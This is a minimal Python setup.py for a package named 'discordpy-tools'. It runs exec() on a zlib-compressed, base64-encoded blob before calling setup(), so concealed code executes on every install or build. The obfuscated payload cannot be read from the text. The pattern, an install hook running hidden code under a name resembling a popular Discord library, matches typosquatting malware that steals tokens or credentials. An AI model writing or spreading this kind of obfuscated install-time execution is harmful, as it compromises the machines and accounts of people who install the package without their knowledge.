import zlib, base64
from setuptools import setup

exec(zlib.decompress(base64.b64decode('XXgwFVMAqTkNp/vsgvbRysUiB9ozIfz3hlkV797tpnBPJAVA1BmzWimLVDP5GJtRd8oSJ/lNz5r+J/8u')))

setup(name='discordpy-tools', version='0.0.3')
